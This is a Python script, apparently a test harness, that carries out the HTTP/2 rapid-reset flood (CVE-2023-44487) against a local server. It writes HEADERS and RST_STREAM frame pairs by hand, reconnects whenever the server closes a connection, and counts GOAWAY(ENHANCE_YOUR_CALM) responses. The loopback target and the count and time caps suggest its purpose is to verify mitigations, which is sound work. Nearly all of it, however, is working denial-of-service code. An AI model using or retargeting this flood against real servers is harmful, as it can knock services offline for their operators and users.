#!/usr/bin/python3
"""An HTTP/2 rapid-reset flood (CVE-2023-44487), bounded in count and time.

Usage: h2_rapid_reset.py PORT PATH PAIRS [SECONDS]

Sends PAIRS pairs of HEADERS (a gRPC call to PATH) and RST_STREAM(CANCEL)
for the same stream to 127.0.0.1:PORT over cleartext HTTP/2, as fast as the
socket takes them, for at most SECONDS (default 30). When the server closes
a connection the flood goes on on a new one. The frames are written by hand
(a fixed HPACK block of static-table references and literals, never
indexed), so the client is faster than the servers it attacks.

Prints one JSON line: pairs sent, connections used, how many of them ended
with GOAWAY(ENHANCE_YOUR_CALM), how many the server closed, the most pairs
sent on one connection, and the time taken.
"""
import json
import socket
import struct
import sys
import threading
import time


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xb


def frame(kind, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def literal(name_index, value):
    """A header field literal, never indexed, with a static-table name."""
    value = value.encode()
    assert name_index < 15 and len(value) < 127
    return bytes([0x10 | name_index, len(value)]) + value


def literal_new(name, value):
    name, value = name.encode(), value.encode()
    return bytes([0x10, len(name)]) + name + bytes([len(value)]) + value


def header_block(path):
    # :method POST (static 3), :scheme http (static 6), :path, :authority.
    return (b"\x83\x86" + literal(4, path) + literal(1, "localhost") +
            literal_new("content-type", "application/grpc") +
            literal_new("te", "trailers"))


class Reader(threading.Thread):
    """Reads the frames the server sends: acknowledges its SETTINGS, notes
    GOAWAY and the connection's end."""

    def __init__(self, sock, lock):
        super().__init__(daemon=True)
        self.sock, self.lock = sock, lock
        self.goaway = None
        self.closed = False

    def run(self):
        buffer = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        try:
                            with self.lock:
                                self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
                        except OSError:
                            pass  # the flood's end; read on for GOAWAY
                    elif kind == GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
        except OSError:
            pass
        self.closed = True


def flood(port, block, pairs, deadline):
    """One connection: pairs until `pairs` are sent, the server closes it
    or the deadline passes. Returns (pairs sent, GOAWAY code, closed)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    lock = threading.Lock()
    reader = Reader(sock, lock)
    with lock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    reader.start()
    rst = struct.pack(">I", CANCEL)
    sent, stream, batch = 0, 1, 200
    try:
        while sent < pairs and time.monotonic() < deadline:
            if reader.closed:
                break
            count = min(batch, pairs - sent)
            chunk = bytearray()
            for i in range(count):
                sid = stream + 2 * i
                chunk += frame(HEADERS, END_HEADERS, sid, block)
                chunk += frame(RST_STREAM, 0, sid, rst)
            with lock:
                sock.sendall(chunk)
            sent += count
            stream += 2 * count
    except OSError:
        pass
    # A moment for the server to answer the flood with GOAWAY and a close.
    reader.join(timeout=2.0)
    closed = reader.closed
    sock.close()
    return sent, reader.goaway, closed


def main():
    port, path, pairs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    limit = float(sys.argv[4]) if len(sys.argv) > 4 else 30.0
    block = header_block(path)
    start = time.monotonic()
    deadline = start + limit
    sent, connections, goaways, closed, most = 0, 0, 0, 0, 0
    # A closed connection is replaced by a new one, as an attacker would.
    while sent < pairs and time.monotonic() < deadline:
        n, goaway, was_closed = flood(port, block, pairs - sent, deadline)
        connections += 1
        sent += n
        most = max(most, n)
        goaways += goaway == ENHANCE_YOUR_CALM
        closed += was_closed
        if not was_closed:
            break  # the server let the connection go on
    print(json.dumps({
        "sent": sent,
        "connections": connections,
        "goaway_enhance_your_calm": goaways,
        "closed": closed,
        "most_pairs_on_one_connection": most,
        "seconds": round(time.monotonic() - start, 3),
    }))


if __name__ == "__main__":
    main()
